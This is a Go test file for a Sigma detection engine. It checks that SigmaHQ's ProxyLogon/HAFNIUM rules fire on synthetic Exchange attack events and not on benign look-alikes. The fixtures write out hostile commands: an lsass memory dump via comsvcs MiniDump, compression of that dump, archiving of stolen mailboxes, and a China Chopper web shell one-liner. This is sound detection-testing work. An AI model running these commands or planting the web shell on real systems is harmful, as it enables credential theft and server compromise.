package sigma

import (
	"path/filepath"
	"testing"

	"github.com/accord-cti/accord/internal/sharedtest"
	"github.com/google/go-cmp/cmp"
	"github.com/google/go-cmp/cmp/cmpopts"
)

// The 2021 Exchange (HAFNIUM, ProxyLogon) rules of SigmaHQ fire on events
// built from the public write-ups (Microsoft's "HAFNIUM targeting Exchange
// Servers with 0-day exploits", Volexity's "Operation Exchange Marauder")
// and not on benign look-alikes.

const sysmon = "Microsoft-Windows-Sysmon/Operational"

func sysmonEvent(id string, kv ...string) *Event {
	return event(SourceWindows, append([]string{"Channel", sysmon, "EventID", id, "Computer", "EXCH01.corp.local"}, kv...)...)
}

func TestProxyLogonRules(t *testing.T) {
	dir := sharedtest.Path(t, "data/sigma")
	files := []string{
		"rules-emerging-threats/2021/TA/HAFNIUM/proc_creation_win_apt_hafnium.yml",
		"rules-emerging-threats/2021/TA/HAFNIUM/web_exchange_exploitation_hafnium.yml",
		"rules-emerging-threats/2021/Exploits/CVE-2021-26857/proc_creation_win_exploit_cve_2021_26857_msexchange.yml",
		"rules-emerging-threats/2021/Exploits/CVE-2021-26858/file_event_win_cve_2021_26858_msexchange.yml",
		"rules-emerging-threats/2021/Exploits/CVE-2021-26858/web_cve_2021_26858_iis_rce.yml",
		"rules/windows/builtin/msexchange/win_exchange_proxylogon_oabvirtualdir.yml",
	}
	var paths []string
	for _, f := range files {
		paths = append(paths, filepath.Join(dir, f))
	}
	rules, rejected, err := Load(paths)
	if err != nil || len(rejected) > 0 || len(rules) != len(files) {
		t.Fatalf("Load: %d rules, rejected %v, %v", len(rules), rejected, err)
	}
	e, rej := Compile(rules, Options{})
	if len(rej) > 0 {
		t.Fatal(rej)
	}
	const (
		hafProc  = "HAFNIUM Exchange Exploitation Activity"
		hafWeb   = "Exchange Exploitation Used by HAFNIUM"
		cve26857 = "Potential CVE-2021-26857 Exploitation Attempt"
		cve26858 = "CVE-2021-26858 Exchange Exploitation"
		resetVD  = "ProxyLogon Reset Virtual Directories Based On IIS Log"
		oabVD    = "ProxyLogon MSExchange OabVirtualDirectory"
	)
	umworker := `C:\Program Files\Microsoft\Exchange Server\V15\Bin\UMWorkerProcess.exe`
	oabCmd := `Set-OabVirtualDirectory -ExternalUrl 'http://f/<script language="JScript" runat="server">function Page_Load(){eval(Request["unsafe"],"unsafe");}</script>' -Identity 'OAB (Default Web Site)'`
	tests := []struct {
		name string
		ev   *Event
		want []string
	}{
		// Microsoft: lsass dumped with procdump or comsvcs, compressed with makecab or 7-Zip.
		{"makecab of an lsass dump", sysmonEvent("1", "Image", `C:\Windows\System32\makecab.exe`,
			"CommandLine", `makecab.exe C:\inetpub\wwwroot\aspnet_client\lsass.dmp C:\inetpub\wwwroot\aspnet_client\lsass.dmp.zip`), []string{hafProc}},
		{"7-Zip of stolen mailboxes", sysmonEvent("1", "Image", `C:\ProgramData\7z.exe`,
			"CommandLine", `C:\ProgramData\7z.exe a -t7z -mx9 C:\Programdata\pst\it.zip C:\Programdata\pst\*.pst`), []string{hafProc}},
		{"comsvcs MiniDump into wwwroot", sysmonEvent("1", "Image", `C:\Windows\System32\rundll32.exe`,
			"CommandLine", `rundll32 C:\windows\system32\comsvcs.dll MiniDump 656 C:\inetpub\wwwroot\aspnet_client\system_web\lsass.dmp full `), []string{hafProc}},
		{"Opera_browser PlugX", sysmonEvent("1", "Image", `C:\Users\Public\opera\Opera_browser.exe`, "ParentImage", `C:\Windows\System32\services.exe`), []string{hafProc}},
		{"benign makecab", sysmonEvent("1", "Image", `C:\Windows\System32\makecab.exe`, "CommandLine", `makecab.exe C:\logs\a.log C:\logs\a.cab`), nil},
		{"benign comsvcs without dump path", sysmonEvent("1", "Image", `C:\Windows\System32\rundll32.exe`, "CommandLine", `rundll32 C:\windows\system32\comsvcs.dll,DllRegisterServer`), nil},
		// CVE-2021-26857: the Unified Messaging worker spawns a shell.
		{"UMWorkerProcess spawns cmd", sysmonEvent("1", "Image", `C:\Windows\System32\cmd.exe`, "ParentImage", umworker, "CommandLine", "cmd /c whoami"), []string{cve26857}},
		{"UMWorkerProcess spawns WerFault", sysmonEvent("1", "Image", `C:\Windows\System32\WerFault.exe`, "ParentImage", umworker), nil},
		// CVE-2021-26858: the Unified Messaging worker writes a web shell.
		{"UMWorkerProcess writes an aspx", sysmonEvent("11", "Image", umworker, "TargetFilename", `C:\inetpub\wwwroot\aspnet_client\discover.aspx`), []string{cve26858}},
		{"UMWorkerProcess writes its cache", sysmonEvent("11", "Image", umworker, "TargetFilename", `C:\Program Files\Microsoft\Exchange Server\V15\UnifiedMessaging\temp\CacheCleanup.bin`), nil},
		// Volexity: web shells written through the ECP's ResetOABVirtualDirectory.
		{"ResetOABVirtualDirectory via DDIService", event(SourceWebserver, "cs-method", "POST", "cs-uri-stem", "/ecp/DDI/DDIService.svc/SetObject",
			"cs-uri-query", "schema=ResetOABVirtualDirectory&msExchEcpCanary=x", "cs-username", "EXCH01$", "sc-status", "200", "c-ip", "165.232.154.116"), []string{resetVD}},
		{"SetObject by a user", event(SourceWebserver, "cs-method", "POST", "cs-uri-stem", "/ecp/DDI/DDIService.svc/SetObject",
			"cs-uri-query", "schema=ResetOABVirtualDirectory", "cs-username", "alice", "sc-status", "200"), nil},
		// HAFNIUM's web requests: the rule's cs-uri-query holds the whole URI.
		{"POST /ecp/y.js by python-requests", event(SourceWebserver, "cs-method", "POST", "cs-uri-query", "/ecp/y.js",
			"cs(User-Agent)", "python-requests/2.25.1"), []string{hafWeb}},
		{"POST /owa/auth/Current/themes/resources", event(SourceWebserver, "cs-method", "POST",
			"cs-uri-query", "/owa/auth/Current/themes/resources/logon.css", "cs(User-Agent)", "Mozilla/5.0"), []string{hafWeb}},
		{"GET /ecp/y.js", event(SourceWebserver, "cs-method", "GET", "cs-uri-query", "/ecp/y.js", "cs(User-Agent)", "python-requests/2.25.1"), nil},
		{"POST to another app", event(SourceWebserver, "cs-method", "POST", "cs-uri-query", "/api/upload", "cs(User-Agent)", "python-requests/2.25.1"), nil},
		// The OAB virtual directory's ExternalUrl set to a China Chopper shell.
		{"Set-OabVirtualDirectory China Chopper", &Event{Source: SourceWindows, Raw: []byte("MSExchange CmdletLogs: " + oabCmd),
			Attrs: []Attr{{"Channel", []byte("MSExchange Management")}, {"EventID", []byte("1")}, {"Data", []byte(oabCmd)}}}, []string{oabVD}},
		{"Set-OabVirtualDirectory benign", &Event{Source: SourceWindows, Raw: []byte("Set-OabVirtualDirectory -ExternalUrl 'https://mail.corp.local/OAB'"),
			Attrs: []Attr{{"Channel", []byte("MSExchange Management")}, {"EventID", []byte("1")}}}, nil},
	}
	for _, tt := range tests {
		got := hitTitles(t, e, rules, tt.ev)
		if diff := cmp.Diff(tt.want, got, cmpopts.EquateEmpty()); diff != "" {
			t.Errorf("%s (-want +got):\n%s", tt.name, diff)
		}
	}
}
